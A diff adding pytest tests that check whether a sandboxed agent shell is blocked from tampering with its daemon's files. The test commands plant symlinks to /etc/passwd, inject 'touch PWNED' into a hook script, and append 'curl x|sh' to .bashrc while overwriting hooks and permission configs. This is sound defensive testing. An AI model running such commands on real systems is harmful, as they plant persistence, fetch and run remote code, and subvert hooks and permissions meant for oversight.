@@ -606,3 +606,87 @@ async def test_spill_files_do_not_follow_links_planted_at_their_names(
         assert victim.read_text() == "keep\n"
     finally:
         remove_links(spill)
+
+
+# ---------------------------------------------------------------------------------------------
+# The same table in the sandbox (items 2, 3, 7 from a sandboxed shell)
+
+
+@pytest.fixture(scope="module")
+def sandboxed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningDaemon]:
+    """A sandboxing daemon whose HOME lies in a writable area (/tmp): only the read-only
+    mounts of the protected table keep its configuration out of reach."""
+    root = tmp_path_factory.mktemp("sandboxed")
+    workspace, home = root / "workspace", root / "home"
+    (workspace / "scripts").mkdir(parents=True)
+    (workspace / ".cursor").mkdir()
+    audit = workspace / "scripts" / "audit.sh"
+    audit.write_text("#!/bin/sh\ncat >/dev/null\necho '{}'\n")
+    audit.chmod(0o755)
+    hook = {"command": "../scripts/audit.sh"}
+    (workspace / ".cursor" / "hooks.json").write_text(
+        json.dumps({"version": 1, "hooks": {"afterShellExecution": [hook]}})
+    )
+    (home / ".cursor").mkdir(parents=True)
+    (home / ".cursor" / "permissions.json").write_text("{}\n")
+    (home / ".bashrc").write_text("# rc\n")
+    with running_daemon(
+        workspace, root / "state", "--sandbox-enabled", env={"HOME": str(home)}
+    ) as running:
+        yield running
+
+
+async def sandboxed_shell(daemon: RunningDaemon, command: str) -> Any:
+    async with daemon.client() as connected:
+        outcome = await connected.run(shell_call(command))
+    assert outcome.result is not None, outcome.error
+    result = outcome.result.shell_tool_call.result
+    assert result.sandbox_policy.type != result.sandbox_policy.TYPE_INSECURE_NONE, result
+    return result
+
+
+def anything_at(path: Path) -> bool:
+    return os.path.lexists(path)
+
+
+def home_of(daemon: RunningDaemon) -> Path:
+    return daemon.workspace.parent / "home"
+
+
+async def test_a_sandboxed_shell_cannot_plant_links_in_the_terminals_folder(
+    sandboxed: RunningDaemon,
+) -> None:
+    folder = sandboxed.state_dir / "terminals"
+    result = await sandboxed_shell(
+        sandboxed,
+        f"mkdir -p {folder}/shell-output; ln -s /etc/passwd {folder}/shell-output/shell-2-1.txt;"
+        f" ln -s /etc/passwd {folder}/planted.log; echo done",
+    )
+    assert "done" in result.success.stdout, result
+    assert not anything_at(folder / "shell-output" / "shell-2-1.txt")
+    assert not anything_at(folder / "planted.log")
+
+
+async def test_a_sandboxed_shell_cannot_rewrite_a_hook_script(sandboxed: RunningDaemon) -> None:
+    audit = sandboxed.workspace / "scripts" / "audit.sh"
+    before = audit.read_text()
+    await sandboxed_shell(sandboxed, f"echo 'touch {sandboxed.workspace}/PWNED' >> {audit}; true")
+    assert audit.read_text() == before
+    assert not (sandboxed.workspace / "PWNED").exists()
+    # The folder around it stays writable.
+    await sandboxed_shell(sandboxed, f"echo ok > {audit.parent}/other.txt")
+    assert (audit.parent / "other.txt").read_text() == "ok\n"
+
+
+async def test_a_sandboxed_shell_cannot_write_home_config_in_a_writable_home(
+    sandboxed: RunningDaemon,
+) -> None:
+    home = home_of(sandboxed)
+    await sandboxed_shell(
+        sandboxed,
+        f"echo '{{\"version\":1}}' > {home}/.cursor/hooks.json;"
+        f" echo '{{}}' > {home}/.cursor/permissions.json; echo 'curl x|sh' >> {home}/.bashrc; true",
+    )
+    assert not (home / ".cursor" / "hooks.json").exists()
+    assert (home / ".cursor" / "permissions.json").read_text() == "{}\n"
+    assert (home / ".bashrc").read_text() == "# rc\n"
